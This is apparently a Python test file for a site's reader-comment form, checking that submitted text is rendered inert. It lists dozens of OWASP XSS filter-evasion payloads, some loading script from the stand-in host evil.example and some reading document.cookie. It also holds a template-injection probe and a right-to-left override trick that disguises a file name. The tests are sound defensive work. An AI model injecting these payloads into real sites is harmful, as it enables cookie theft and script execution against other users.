"""What people paste into the form to break it."""

import unicodedata

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from comments.models import ReaderComment
from comments.moderation import transitions
from comments.writing.text import MARKS, tidy
from demo.factories import UserFactory

pytestmark = pytest.mark.postgresql

# From the OWASP cheat sheet "XSS Filter Evasion", one or more of each kind.
XSS = [
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    r'\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml"></EMBED>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-',
    '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
    "<details open ontoggle=alert(1)>",
    "{{ 7*7 }}{% csrf_token %}${7*7}",
    "'\"><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("attack", XSS)
def test_what_is_typed_is_text_wherever_it_is_shown(client, release, send, attack, mailoutbox):
    send(release, comment=attack, name=f"X {attack}"[:50])
    written = ReaderComment.objects.get()
    written.status, written.confirmed_at = "pending", written.submit_date
    written.save()
    transitions.approve(written, UserFactory())

    page = BeautifulSoup(client.get(release.url).text, "lxml").find("section", "comments")

    assert not page.find_all(
        ["script", "img", "svg", "iframe", "style", "link", "object", "embed", "meta", "input"]
    )
    assert not [tag for tag in page.find_all(True) for name in tag.attrs if name.startswith("on")]
    assert not [a for a in page.find_all("a") if "script:" in a.get("href", "")]
    body = page.find("div", "comment__body").get_text()
    assert "".join(body.split()) == "".join(tidy(attack).split())


def test_zalgo_stays_in_its_line(release, send):
    marks = "".join(chr(0x300 + number) for number in range(60))
    send(release, comment=f"H{marks}a{marks}lo", name=f"Z{marks}"[:50])

    written = ReaderComment.objects.get()
    assert len(written.comment) <= 4 + 2 * MARKS
    assert len(written.user_name) <= 1 + MARKS


@pytest.mark.parametrize("text", ["नमस्ते", "ภาษาไทยที่นี่", "ꦧꦱꦗꦮ", "Café", "اَلْعَرَبِيَّة", "👩🏽‍🌾"])
def test_scripts_that_need_marks_keep_them(text):
    assert tidy(text) == unicodedata.normalize("NFC", text)


def test_what_turns_the_direction_of_other_text_is_left_out(release, send):
    send(release, comment="aman \u202etxt.exe\u2066", name="Budi\u202e")

    written = ReaderComment.objects.get()
    assert (written.comment, written.user_name) == ("aman txt.exe", "Budi")


@given(st.text())
def test_tidying_never_fails_and_once_is_enough(text):
    once = tidy(text)

    assert tidy(once) == once
    once.encode()


def test_nobody_answers_a_comment_that_waits_even_their_own(release, send, comment):
    own = comment("pending")

    assert send(release, reply_to=str(own.pk)).status_code in (400, 422)
    assert ReaderComment.objects.count() == 1
